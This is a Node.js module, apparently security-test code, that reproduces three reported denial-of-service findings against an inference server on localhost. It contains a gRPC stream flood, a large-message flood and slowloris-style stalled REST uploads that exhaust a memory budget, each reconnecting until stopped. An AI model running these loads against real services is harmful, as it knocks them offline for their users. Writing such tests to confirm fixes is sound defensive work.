// The attacks of issue 34's findings 1 to 3, as loads that run beside an honest client: each keeps
// its pressure up (a refused or dropped connection is opened again) until stopped.
import http2 from 'node:http2';
import net from 'node:net';

/** A gRPC ModelInfer stream that declares `declared` bytes and writes up to `send` of them as fast as the server takes them. */
function grpcUpload(session, headers, declared, send, onDone) {
  let stream;
  try {
    stream = session.request({
      ':method': 'POST',
      ':path': '/inference.GRPCInferenceService/ModelInfer',
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
  } catch {
    return onDone();
  }
  let finished = false;
  const done = () => {
    if (finished) return;
    finished = true;
    onDone();
  };
  stream.on('close', done);
  stream.on('error', () => undefined);
  stream.on('response', () => undefined);
  stream.resume();
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(declared, 1);
  const chunk = Buffer.alloc(256 * 1024, 7);
  let sent = 0;
  const pump = () => {
    while (!stream.destroyed && sent < send) {
      const piece = chunk.subarray(0, Math.min(chunk.length, send - sent));
      sent += piece.length;
      if (!stream.write(piece)) return void stream.once('drain', pump);
    }
  };
  stream.write(prefix);
  pump();
}

/** Keeps `streams` gRPC streams open without a token, each sending most of a `bytes` message (finding 1: 200 x 15 MB of 16 MB). */
export function grpcStreamFlood(port, { streams = 200, bytes = 15 * 2 ** 20, declared = 16 * 2 ** 20 - 5 } = {}) {
  let stopped = false;
  const sessions = [];
  const open = (session) => {
    if (stopped || session.destroyed) return;
    grpcUpload(session, {}, declared, bytes, () => setTimeout(() => open(session), 50));
  };
  // At most 100 streams a connection (the server's limit): as many connections as that takes.
  for (let i = 0; i < Math.ceil(streams / 50); i++) {
    const session = http2.connect(`http://127.0.0.1:${port}`);
    session.on('error', () => undefined);
    sessions.push(session);
    for (let s = 0; s < Math.min(50, streams - i * 50); s++) open(session);
  }
  return () => {
    stopped = true;
    for (const s of sessions) s.destroy();
  };
}

/** Whole `bytes` gRPC messages without a token, `inFlight` at a time (finding 2: 12 MB each). */
export function grpcLargeMessages(port, { inFlight = 3, bytes = 12 * 2 ** 20 } = {}) {
  let stopped = false;
  const session = http2.connect(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  const send = () => {
    if (stopped || session.destroyed) return;
    grpcUpload(session, {}, bytes, bytes, () => setTimeout(send, 20));
  };
  for (let i = 0; i < inFlight; i++) send();
  return () => {
    stopped = true;
    session.destroy();
  };
}

/**
 * REST uploads that stall once they hold `each` bytes, `count` at a time, re-opened when dropped (finding 3:
 * nine uploads holding all of the 128 MiB budget but 128 bytes, less than any request). `token`: an insider's; without one they are refused before a byte.
 */
export function stalledUploads(url, { count = 9, each = Math.floor((128 * 2 ** 20 - 128) / 9), token } = {}) {
  const { port } = new URL(url);
  let stopped = false;
  const sockets = new Set();
  const open = () => {
    if (stopped) return;
    const socket = net.connect(Number(port), '127.0.0.1');
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(open, 100);
    });
    socket.resume();
    socket.write(
      `POST /v2/models/breast_cancer/infer HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}Content-Type: application/json\r\nContent-Length: ${each + 1024}\r\n\r\n`,
    );
    socket.write(Buffer.alloc(each, 0x20));
  };
  for (let i = 0; i < count; i++) open();
  return () => {
    stopped = true;
    for (const s of sockets) s.destroy();
  };
}
